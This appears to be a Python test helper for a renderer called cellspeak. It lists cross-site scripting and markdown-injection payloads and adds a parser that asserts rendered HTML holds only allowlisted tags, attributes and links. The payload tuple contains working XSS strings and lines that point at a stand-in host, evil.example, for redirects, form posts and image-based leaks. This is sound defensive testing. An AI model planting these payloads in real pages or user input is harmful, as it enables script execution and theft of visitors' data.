"""Texts that attack whoever shows them, and a judge of the HTML that shows them."""

from __future__ import annotations

from html.parser import HTMLParser

from cellspeak.core.clean import is_picture
from cellspeak.core.urls import judge

__all__ = ["PAYLOADS", "assert_inert", "text_of"]

PAYLOADS = (
    "<script>alert(1)</script>",
    "</pre></details></div><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<body onload=alert(1)>",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><input name=a></form>",
    "<object data=//evil.example/x.swf></object>",
    "<math><mi href=javascript:alert(1)>x</mi></math>",
    "<details open ontoggle=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<div class=cellspeak-static>",
    "</div></div></div>",
    "<!-- comment",
    "--><script>alert(1)</script><!--",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "<noscript><p title='</noscript><script>alert(1)</script>'>",
    "<textarea></textarea><script>alert(1)</script>",
    "<title></title><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "' onmouseover='alert(1)",
    '" onmouseover="alert(1)',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox)",
    "[x](//evil.example)",
    "[x](https://user@evil.example)",
    "[x](<javascript:alert(1)>)",
    "[x]: javascript:alert(1)\n\n[x]",
    '[x](https://a.example/" onclick="alert(1))',
    "[x](https://a.example 'title\" onclick=\"alert(1)')",
    "<javascript:alert(1)>",
    "![x](https://evil.example/p.png)",
    "![x](https://evil.example/p.png?q=secret 'title')",
    "[![x](https://evil.example/p.png)](https://evil.example)",
    "![x][y]\n\n[y]: https://evil.example/p.png",
    "![<script>alert(1)</script>](javascript:alert(1))",
    "```<script>\n</code></pre><script>alert(1)</script>\n```",
    '```" onclick=alert(1)\nx\n```',
    "`</code><script>alert(1)</script>`",
    "| a |\n|---|\n| <script>alert(1)</script> |",
    "# <script>alert(1)</script>",
    "- <img src=x onerror=alert(1)>",
    "    <script>alert(1)</script>",
    "$\\href{javascript:alert(1)}{x}$",
    "$$\\style{display:none}{x} \\require{html} \\class{y}{x} \\cssId{z}{x}$$",
    "\\(\\unicode{x} \\def\\x{1} \\let\\y\\x \\csname href\\endcsname\\)",
    "\u202egnp.exe\u2066",
    "\0<script>\0alert(1)</script>",
    "\ud800<script>alert(1)</script>\udfff",
    "\x1b[31m<b>\x07",
    "`` ` ``` ````",
    "<" * 500,
    "\\" * 500,
    "&" * 500,
    "[" * 500,
    "> " * 100 + "<script>",
)

_TAGS = {
    *("div", "p", "strong", "em", "blockquote", "br", "details", "summary", "pre", "code", "a"),
    *("span", "hr", "h1", "h2", "h3", "h4", "h5", "h6", "ul", "ol", "li", "s"),
    *("table", "thead", "tbody", "tr", "th", "td", "img"),
}
_VOID = frozenset(("br", "hr", "img"))
_ATTRIBUTES = {
    "a": {"href", "rel", "target"},
    "div": {"class"},
    "blockquote": {"class"},
    "ol": {"start"},
    "th": {"style", "colspan", "rowspan"},
    "td": {"style", "colspan", "rowspan"},
    "img": {"src", "alt"},
}
_CLASSES = ("cellspeak-static", "prompt")


class _Reader(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.open: list[str] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in _TAGS, f"a tag {tag} came to be"
        for name, value in attrs:
            self._check(tag, name, value or "")
        if tag not in _VOID:
            self.open.append(tag)

    def _check(self, tag: str, name: str, value: str) -> None:
        assert name in _ATTRIBUTES.get(tag, ()), f"an attribute {name} came to be on {tag}"
        if name == "href":
            assert judge(value) == "link", f"a link to {value} came to be"
        if name == "src":
            assert is_picture(value), f"a picture at {value} came to be"
        if name == "class":
            assert value.startswith(_CLASSES)
        if name == "style":
            assert value.startswith("text-align:")

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag, f"</{tag}> closes something else"

    def handle_data(self, data: str) -> None:
        if not {"pre", "code"} & set(self.open):
            assert "\\href" not in data, "TeX could make a link"
        self.text.append(data)

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"a comment came to be: {data}")

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(f"a declaration came to be: {decl}")

    def handle_pi(self, data: str) -> None:
        raise AssertionError(f"an instruction came to be: {data}")

    def unknown_decl(self, data: str) -> None:
        raise AssertionError(f"a declaration came to be: {data}")


def _read(html: str) -> _Reader:
    reader = _Reader()
    reader.feed(html)
    reader.close()
    return reader


def assert_inert(html: str) -> None:
    """Fail unless *html* is whole, of plain tags, and neither runs nor fetches anything."""
    html.encode()  # half a surrogate pair could not be saved
    reader = _read(html)
    assert not reader.open, f"not closed: {reader.open}"


def text_of(html: str) -> str:
    """Return what a reader of *html* sees."""
    return "".join(_read(html).text)
